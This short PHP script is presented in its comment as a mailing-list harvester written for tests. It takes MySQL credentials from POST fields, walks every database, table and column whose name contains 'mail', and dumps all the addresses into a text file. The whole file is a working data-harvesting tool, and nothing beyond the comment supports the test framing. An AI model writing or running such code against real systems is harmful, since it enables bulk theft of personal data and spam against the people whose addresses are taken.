<?php
// a mailing-list harvester: every database, every column whose name holds "mail", all the
// addresses written to a file (written for the tests, never run)
$db = new mysqli($_POST['h'], $_POST['u'], $_POST['p']);
$out = fopen('emails.txt', 'w');
foreach ($db->query('SHOW DATABASES') as $d) {
    foreach ($db->query('SHOW TABLES FROM `' . $d['Database'] . '`') as $t) {
        $table = $d['Database'] . '.' . reset($t);
        foreach ($db->query('SHOW COLUMNS FROM ' . $table) as $c) {
            if (stripos($c['Field'], 'mail') !== false) {
                foreach ($db->query('SELECT `' . $c['Field'] . '` FROM ' . $table) as $r) {
                    fwrite($out, reset($r) . "\n");
                }
            }
        }
    }
}
